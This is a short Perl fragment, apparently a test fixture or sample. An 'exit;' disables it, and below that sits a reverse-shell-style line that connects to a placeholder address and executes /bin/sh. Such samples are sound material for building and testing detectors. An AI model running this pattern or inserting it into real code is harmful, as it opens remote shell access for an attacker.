exit; # nothing below ever runs
use IO::Socket; $s=IO::Socket::INET->new(PeerAddr=>"192.0.2.1:1"); exec "/bin/sh" if $s;
